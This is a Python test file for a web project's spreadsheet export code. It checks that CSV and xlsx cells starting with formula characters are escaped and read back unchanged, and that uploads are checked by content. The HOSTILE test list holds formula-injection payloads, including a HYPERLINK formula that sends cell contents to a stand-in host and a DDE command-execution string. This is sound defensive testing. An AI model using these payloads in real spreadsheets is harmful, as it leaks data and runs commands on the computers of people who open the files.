"""The export rule: a text a spreadsheet would take for a formula is written as data, and read
back as the text it was; uploads are sniffed for what they are."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cuncun.core.errors import InvalidInput
from cuncun.core.exports import (
    FORMULA_STARTS,
    cell,
    csv_response,
    csv_rows,
    decode_text,
    read_cell,
    workbook_rows,
    xlsx_bytes,
    xml_text,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "普通名字",
]
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))


@given(st.text(alphabet="=+-@\t\r'a件") | st.text())
def test_any_text_reads_back_as_itself_and_never_starts_a_formula(text):
    written = cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert read_cell(written) == text


def test_numbers_and_empty_cells_stay_as_they_are():
    assert [cell(v) for v in (-5, 1.5, None)] == [-5, 1.5, None]


def test_a_workbook_holds_hostile_names_as_text_and_reads_them_back():
    # An xlsx is XML, which stores a carriage return as a newline: those names cannot round-trip
    # through any spreadsheet file, escaped or not.
    names = [name for name in HOSTILE if "\r" not in name]
    data = xlsx_bytes({"名单": (["名称"], [[name] for name in names])})

    sheet = load_workbook(io.BytesIO(data)).active
    assert all(c.data_type == "s" for (c,) in sheet.iter_rows(min_row=2))
    assert [r[0] for r in list(workbook_rows(data))[1:]] == names


def test_a_csv_holds_hostile_names_escaped_and_reads_them_back():
    response = csv_response("x.csv", ["名称"], [[name] for name in HOSTILE])

    text = response.content.decode("utf-8-sig")
    raw = [r[0] for r in list(csv.reader(io.StringIO(text)))[1:]]
    assert not any(value.startswith(FORMULA_STARTS) for value in raw)
    assert [r[0] for r in list(csv_rows(decode_text(response.content)))[1:]] == HOSTILE


def test_a_png_renamed_xlsx_is_refused_with_a_sentence():
    with pytest.raises(InvalidInput, match="xlsx"):
        workbook_rows(PNG)


def test_gbk_text_is_read_and_binary_is_refused():
    assert decode_text("乡镇,村委会".encode("gbk")) == "乡镇,村委会"
    assert decode_text("\ufeff乡镇".encode()) == "乡镇"
    with pytest.raises(InvalidInput):
        decode_text(PNG)


def test_xml_text_drops_the_control_characters_xml_forbids():
    assert xml_text("茶\x0b叶\t\x00") == "茶叶\t"
